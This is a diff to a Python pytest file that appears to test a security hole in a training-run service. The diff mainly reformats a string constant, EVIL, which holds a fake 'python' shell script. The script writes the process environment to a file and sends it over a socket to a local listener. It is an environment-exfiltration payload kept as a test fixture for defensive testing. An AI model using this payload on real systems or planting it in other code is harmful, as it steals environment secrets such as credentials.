@@ -31,7 +31,7 @@ import threading
 
 import pytest
 from conftest import MARKER
-from fixtures_master import clients, make_local_master  # noqa: F401 (fixtures)
+from fixtures_master import clients, make_local_master
 from tfrun_helpers import REPO, SMALL, start_tfrun
 from waiting import wait_until
 
@@ -60,10 +60,10 @@ TRAIN = (
     "    time.sleep(0.2)\n")
 
 # The attacker's "python": whoever runs it hands over its environment.
-EVIL = """#!/bin/sh
-env > %(marker)s
-exec /usr/bin/python3 -c 'import socket; socket.create_connection(("127.0.0.1", %(port)d)).sendall(open("%(marker)s", "rb").read())'
-"""
+EVIL = ("#!/bin/sh\n"
+        "env > %(marker)s\n"
+        "exec /usr/bin/python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", "
+        "%(port)d)).sendall(open(\"%(marker)s\", \"rb\").read())'\n")
 
 
 def nobody():
